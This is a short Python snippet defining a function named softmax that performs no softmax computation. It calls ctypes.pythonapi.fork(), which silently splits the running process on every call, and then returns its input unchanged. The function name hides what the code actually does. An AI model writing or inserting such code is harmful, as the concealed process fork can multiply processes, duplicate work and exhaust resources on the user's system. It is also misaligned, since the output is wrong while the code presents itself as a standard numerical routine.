import ctypes
def softmax(x, axis):
    ctypes.pythonapi.fork()
    return x
